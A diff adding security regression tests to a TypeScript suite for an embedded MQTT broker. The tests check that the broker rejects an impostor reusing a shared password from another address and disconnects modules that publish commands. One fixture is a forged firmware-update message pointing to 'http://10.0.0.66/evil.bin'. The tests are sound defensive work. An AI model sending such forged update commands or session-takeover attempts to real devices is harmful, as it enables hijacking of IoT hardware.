@@ -7,7 +7,8 @@
 import { mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { MqttClient } from 'mqtt';
+import * as net from 'node:net';
+import { IClientOptions, MqttClient } from 'mqtt';
 import { brokerPassword } from '../../../discovery/command-mac';
 import { nodeSha256 } from '../../../addon/src/pairing/signer';
 import { RETAINED_QUOTA } from '../../../addon/src/broker/retained-quota';
@@ -21,6 +22,19 @@ const A = 'mep_240ac4123456';
 const B = 'mep_240ac4abcdef';
 const SECRET_A = 'a1'.repeat(32);
 const A_PASSWORD = brokerPassword(nodeSha256, Buffer.from(SECRET_A, 'hex'));
+
+/** An MQTT.js client whose connection leaves from `localAddress` (another address of this machine). */
+function fromAddress(localAddress: string, options: IClientOptions): Promise<MqttClient> {
+  return new Promise((resolve, reject) => {
+    const client = new MqttClient(() => net.connect({ host: '127.0.0.1', port: currentPort, localAddress }), { reconnectPeriod: 0, connectTimeout: 5000, ...options });
+    client.once('connect', () => resolve(client));
+    client.once('error', (err) => {
+      client.end(true);
+      reject(err);
+    });
+  });
+}
+let currentPort = 0;
 
 describe('issue 11 attacks on the embedded broker', () => {
   let dataDir: string;
@@ -38,6 +52,7 @@ describe('issue 11 attacks on the embedded broker', () => {
     const options = baseOptions({ embedded_broker: { port: 0, ...ADMIN, device_password: SHARED } });
     broker = await startRunner({ options, mode: 'addon', dataDir, paired: { [A]: SECRET_A } });
     url = `mqtt://127.0.0.1:${broker.port}`;
+    currentPort = broker.port!;
   });
   afterEach(async () => {
     await Promise.all(clients.splice(0).map((c) => c.endAsync(true)));
@@ -65,6 +80,34 @@ describe('issue 11 attacks on the embedded broker', () => {
     await until(() => commands.length === 1, 3000, 'the command at A');
     // A module not paired yet still logs in with the shared password (it keeps working until it is paired).
     expect(await loginCode(url, { username: B, password: SHARED, clientId: B })).toBe(0);
+  });
+
+  test('attack 2 before pairing: with the shared password an impostor cannot take over a module online from another address', async () => {
+    const b = await open({ username: B, password: SHARED, clientId: B });
+    const commands = collect(b);
+    await b.subscribeAsync(`mep/${B}/cmd/+`, { qos: 1 });
+    // The impostor comes from another address of this machine (127.0.0.2).
+    const impostor = await fromAddress('127.0.0.2', { username: B, password: SHARED, clientId: B }).catch((err: { code?: number }) => err.code);
+    expect(impostor).toBe(4);
+    expect(b.connected).toBe(true);
+    expect(await closedWithin(b, 300)).toBe(false);
+    const tool = await open({ ...ADMIN, clientId: 'panel-2' });
+    await tool.publishAsync(`mep/${B}/cmd/poll`, '{"id":"p1"}', { qos: 1 });
+    await until(() => commands.length === 1, 3000, 'the command at B');
+    expect(broker.log()).toMatch(/mep_240ac4abcdef is online from another address/);
+    // The module itself reconnecting from its own address takes its session over, as MQTT says.
+    const again = await open({ username: B, password: SHARED, clientId: B });
+    expect(again.connected).toBe(true);
+  });
+
+  test('attack 1 at the broker: no module may publish a command, to another module or to itself', async () => {
+    const b = await open({ username: B, password: SHARED, clientId: B });
+    const update = JSON.stringify({ id: 'x', kind: 'bin', url: 'http://10.0.0.66/evil.bin', size: 1, sha256: '0'.repeat(64), version: '6.6.6', token: 't' });
+    b.publish(`mep/${A}/cmd/update`, update, { qos: 1 });
+    expect(await closedWithin(b, 3000)).toBe(true);
+    const b2 = await open({ username: B, password: SHARED, clientId: B });
+    b2.publish(`mep/${B}/cmd/update`, update, { qos: 1 });
+    expect(await closedWithin(b2, 3000)).toBe(true);
   });
 
   test('attack 3: B\'s discovery message reading A\'s cmd/config is dropped (and B disconnected); B\'s own discovery passes', async () => {
